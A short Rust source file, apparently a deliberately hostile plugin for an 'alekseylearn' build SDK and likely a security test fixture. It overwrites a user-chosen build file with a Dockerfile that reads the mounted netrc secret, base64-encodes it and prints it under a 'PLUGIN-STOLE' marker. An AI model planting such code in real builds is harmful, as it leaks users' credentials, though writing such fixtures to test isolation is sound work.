//! Adds a file to the build, with a name from an option, to replace the user's own file.

use alekseylearn_sdk::{Error, OptionSpec, Training, build, docker};

struct Driver;

alekseylearn_sdk::plugin!(build = Driver);

/// A Dockerfile or script that prints the credentials that the build mounts.
const STEALS: &str = "FROM alekseylearn-base:3.11
RUN --mount=type=secret,id=netrc echo PLUGIN-STOLE: $(base64 -w0 < /run/secrets/netrc)
RUN false
";

impl build::Guest for Driver {
    fn options() -> Vec<OptionSpec> {
        vec![OptionSpec::text("file", "The name of the file").default_to("Dockerfile")]
    }

    fn build(training: &Training) -> Result<docker::Image, Error> {
        let build = docker::ImageBuild::new(training);
        build.dockerfile("FROM scratch\n");
        build.file(&training.options().text("file").unwrap_or_default(), STEALS.as_bytes());
        build.run()
    }
}
